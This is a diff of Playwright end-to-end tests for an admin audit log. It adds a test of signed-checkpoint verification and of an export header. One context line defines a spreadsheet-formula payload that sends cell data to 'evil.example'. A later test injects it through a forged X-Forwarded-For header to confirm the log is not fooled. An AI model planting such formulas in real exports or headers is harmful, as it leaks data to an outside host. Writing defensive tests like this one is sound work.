@@ -90,6 +90,26 @@ test("failed and refused sign-ins are in the audit log", async ({ page }) => {
   await expect(page.getByText("auth.sign_in_rate_limited", { exact: true }).first()).toBeVisible();
 });
 
+test("an admin verifies the audit log now: a signed checkpoint is written, the page verifies from it and the export names it", async ({ page }) => {
+  await new SignInPage(page).signInAndWait(DEMO.admin.email, DEMO.admin.password, DEMO.admin.name);
+  await page.goto("/admin/audit");
+  await expect(page.getByTestId("chain-status")).toContainText("Chain verified");
+  await page.getByTestId("audit-verify-now").click();
+  const result = page.getByRole("status").filter({ hasText: /checkpoint #\d+ written and signed|No new entries since the last checkpoint/ });
+  await expect(result).toBeVisible();
+  // The page now verifies from the signed checkpoint: "verified through #seq at time; N new entries verified now".
+  await expect(page.getByTestId("chain-status")).toContainText(
+    /Chain verified through #\d+ at .+ UTC \(signed checkpoint, [\d,]+ entries\); \d+ new entr(y|ies) verified now/,
+  );
+  const seq = (await page.getByTestId("chain-status").textContent())!.match(/through #(\d+)/)![1];
+  await page.screenshot({ path: "/tmp/retention-audit-checkpoint.png", fullPage: true });
+  const exported = await page.request.get("/api/admin/audit/export");
+  expect(exported.status()).toBe(200);
+  // The newest checkpoint (the scheduled check may have written a later one in between).
+  const header = exported.headers()["x-kiln-audit-checkpoint"]!.match(/^seq=(\d+); hash=[0-9a-f]{64}$/);
+  expect(Number(header?.[1])).toBeGreaterThanOrEqual(Number(seq));
+});
+
 test("a forged X-Forwarded-For (here a spreadsheet formula) is not what the audit log records: the connection's address is", async ({ browser }) => {
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"open")';
   const forger = await browser.newContext({ extraHTTPHeaders: { "x-forwarded-for": formula } });
